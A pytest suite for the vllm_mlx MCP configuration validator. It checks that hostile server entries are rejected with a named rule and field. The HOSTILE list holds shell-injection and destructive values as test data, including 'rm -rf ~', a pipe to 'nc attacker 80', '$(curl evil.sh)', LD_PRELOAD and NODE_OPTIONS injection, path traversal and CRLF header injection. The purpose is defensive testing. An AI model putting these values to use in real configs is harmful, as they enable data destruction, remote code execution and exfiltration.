"""Hostile MCP configs are rejected before anything starts, each with its rule and field."""

from __future__ import annotations

import pytest

from vllm_mlx.mcp.config import parse_config
from vllm_mlx.mcp.manager import MCPManager
from vllm_mlx.mcp.security import (
    SecurityError,
    child_environment,
    is_high_risk_tool,
    validate_config,
)

S = "mcpServers.evil"

# (server entry, expected rule, expected field)
HOSTILE = [
    ({"command": "server; rm -rf ~"}, "shell-metacharacters", f"{S}.command"),
    (
        {"command": "srv", "args": ["--out", "x | nc attacker 80"]},
        "shell-metacharacters",
        f"{S}.args[1]",
    ),
    ({"command": "srv", "args": ["$(curl evil.sh)"]}, "shell-metacharacters", f"{S}.args[0]"),
    ({"command": "srv", "args": ["`id`"]}, "shell-metacharacters", f"{S}.args[0]"),
    ({"command": "srv", "args": ["a && b"]}, "shell-metacharacters", f"{S}.args[0]"),
    ({"command": "srv", "args": ["ok\nrm -rf /"]}, "control-characters", f"{S}.args[0]"),
    ({"command": "node server.js"}, "command-not-argv", f"{S}.command"),
    ({"command": "python3", "args": ["-c", "import os"]}, "inline-code", f"{S}.args[0]"),
    ({"command": "/usr/bin/python3.11", "args": ["-I", "-c", "x"]}, "inline-code", f"{S}.args[1]"),
    ({"command": "python", "args": ["-W", "ignore", "-Sc", "x"]}, "inline-code", f"{S}.args[2]"),
    (
        {"command": "node", "args": ["-e", "require('child_process')"]},
        "inline-code",
        f"{S}.args[0]",
    ),
    ({"command": "node", "args": ["--eval=process.exit()"]}, "inline-code", f"{S}.args[0]"),
    ({"command": "node", "args": ["-p", "1"]}, "inline-code", f"{S}.args[0]"),
    ({"command": "npx", "args": ["-c", "evil"]}, "inline-code", f"{S}.args[0]"),
    ({"command": "bash", "args": ["-c", "curl x"]}, "inline-code", f"{S}.args[0]"),
    ({"command": "sh", "args": ["-xc", "id"]}, "inline-code", f"{S}.args[0]"),
    ({"command": "perl", "args": ["-e", "system 1"]}, "inline-code", f"{S}.args[0]"),
    ({"command": "ruby", "args": ["-e", "x"]}, "inline-code", f"{S}.args[0]"),
    ({"command": "deno", "args": ["eval", "Deno.exit()"]}, "inline-code", f"{S}.args[0]"),
    (
        {"command": "uvx", "args": ["--from", "x", "python", "-c", "x"]},
        "inline-code",
        f"{S}.args[3]",
    ),
    ({"command": "sudo", "args": ["srv"]}, "forbidden-command", f"{S}.command"),
    ({"command": "env", "args": ["X=1", "srv"]}, "forbidden-command", f"{S}.command"),
    (
        {"command": "srv", "env": {"LD_PRELOAD": "/tmp/x.so"}},
        "dangerous-env",
        f"{S}.env.LD_PRELOAD",
    ),
    (
        {"command": "srv", "env": {"DYLD_INSERT_LIBRARIES": "x"}},
        "dangerous-env",
        f"{S}.env.DYLD_INSERT_LIBRARIES",
    ),
    ({"command": "srv", "env": {"PYTHONPATH": "/tmp"}}, "dangerous-env", f"{S}.env.PYTHONPATH"),
    (
        {"command": "srv", "env": {"PYTHONSTARTUP": "/tmp/x"}},
        "dangerous-env",
        f"{S}.env.PYTHONSTARTUP",
    ),
    (
        {"command": "srv", "env": {"NODE_OPTIONS": "--require x"}},
        "dangerous-env",
        f"{S}.env.NODE_OPTIONS",
    ),
    ({"command": "srv", "env": {"PATH": "/tmp/evil"}}, "dangerous-env", f"{S}.env.PATH"),
    (
        {"command": "srv", "env": {"LD_LIBRARY_PATH": "/tmp"}},
        "dangerous-env",
        f"{S}.env.LD_LIBRARY_PATH",
    ),
    ({"command": "srv", "env": {"BAD-KEY": "x"}}, "env-key-invalid", f"{S}.env.BAD-KEY"),
    ({"command": "srv", "env": {"TOKEN": "a\nb"}}, "control-characters", f"{S}.env.TOKEN"),
    ({"command": "../../bin/srv"}, "path-traversal", f"{S}.command"),
    ({"command": "srv", "cwd": "/srv/../../etc"}, "path-traversal", f"{S}.cwd"),
    ({"command": ""}, "empty-command", f"{S}.command"),
    ({"url": "file:///etc/passwd"}, "url-scheme", f"{S}.url"),
    ({"url": "ftp://example.com/mcp"}, "url-scheme", f"{S}.url"),
    ({"url": "http://example.com/mcp"}, "plain-http-remote", f"{S}.url"),
    ({"url": "http://10.0.0.5:8080/mcp"}, "plain-http-remote", f"{S}.url"),
    ({"url": "https://user:pw@example.com/mcp"}, "url-credentials", f"{S}.url"),
    ({"url": "https:///mcp"}, "url-host", f"{S}.url"),
    (
        {"url": "https://x.example/mcp", "headers": {"X": "a\r\nHost: evil"}},
        "header-injection",
        f"{S}.headers.X",
    ),
]


@pytest.mark.parametrize(("entry", "rule", "field"), HOSTILE)
def test_hostile_config_is_rejected_with_its_rule(entry, rule, field):
    config = parse_config({"mcpServers": {"evil": entry}})
    with pytest.raises(SecurityError) as info:
        validate_config(config)
    found = {(v.rule, v.field) for v in info.value.violations}
    assert (rule, field) in found, found
    assert f"{field}: [{rule}]" in str(info.value)


def test_there_are_at_least_25_hostile_cases():
    assert len({rule for _, rule, _ in HOSTILE}) >= 12
    assert len(HOSTILE) >= 25


@pytest.mark.parametrize(
    "entry",
    [
        {"command": "python3", "args": ["-m", "mcp_server_time", "-c", "conf"]},
        {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-filesystem", "/data"]},
        {"command": "node", "args": ["build/index.js", "-e", "prod"]},
        {"command": "uvx", "args": ["mcp-server-git", "--repository", "/repo"]},
        {"command": "srv", "env": {"API_TOKEN": "t0k3n", "HOME": "/home/me"}, "cwd": "/srv/x"},
        {"url": "http://127.0.0.1:8000/mcp"},
        {"url": "http://localhost:8000/sse", "type": "sse"},
        {"url": "http://[::1]:8000/mcp"},
        {"url": "https://tools.example.com/mcp", "headers": {"Authorization": "Bearer x"}},
        {"url": "http://192.168.1.9:8000/mcp", "allow_insecure_http": True},
    ],
)
def test_ordinary_configs_pass(entry):
    validate_config(parse_config({"mcpServers": {"ok": entry}}))


def test_every_violation_is_reported_at_once_and_for_the_servers_key():
    config = parse_config(
        {
            "servers": {
                "a": {"command": "bash", "args": ["-c", "x"], "env": {"LD_PRELOAD": "y"}},
                "b": {"url": "http://example.com"},
            }
        }
    )
    with pytest.raises(SecurityError) as info:
        validate_config(config)
    assert {(v.rule, v.field) for v in info.value.violations} == {
        ("inline-code", "servers.a.args[0]"),
        ("dangerous-env", "servers.a.env.LD_PRELOAD"),
        ("plain-http-remote", "servers.b.url"),
    }


def test_manager_refuses_a_hostile_config_before_starting_anything(tmp_path):
    marker = tmp_path / "started"
    config = parse_config(
        {
            "mcpServers": {
                "fine": {"command": "touch", "args": [str(marker)]},
                "evil": {"command": "srv", "env": {"NODE_OPTIONS": "x"}},
            }
        }
    )
    with pytest.raises(SecurityError):
        MCPManager(config)
    assert not marker.exists()


def test_disabled_servers_are_still_checked():
    config = parse_config(
        {"mcpServers": {"off": {"command": "sh", "args": ["-c", "x"], "enabled": False}}}
    )
    with pytest.raises(SecurityError):
        validate_config(config)


def test_child_environment_is_a_whitelist_plus_the_config():
    parent = {
        "PATH": "/usr/bin",
        "HOME": "/home/u",
        "LANG": "C.UTF-8",
        "VLLM_MLX_API_KEY": "server-secret",
        "OPENAI_API_KEY": "sk-secret",
        "AWS_SECRET_ACCESS_KEY": "aws",
    }
    env = child_environment({"TOOL_TOKEN": "for-the-tool"}, parent)
    assert env == {
        "PATH": "/usr/bin",
        "HOME": "/home/u",
        "LANG": "C.UTF-8",
        "TOOL_TOKEN": "for-the-tool",
    }


@pytest.mark.parametrize(
    ("name", "risky"),
    [
        ("exec", True),
        ("shell", True),
        ("run_command", True),
        ("runCommand", True),
        ("execute_python", True),
        ("eval", True),
        ("bash", True),
        ("terminal-run", True),
        ("spawnProcess", True),
        ("get_current_time", False),
        ("echo", False),
        ("system_info", False),
        ("evaluate_expression", False),
        ("read_file", False),
    ],
)
def test_high_risk_tool_names(name, risky):
    assert is_high_risk_tool(name) is risky
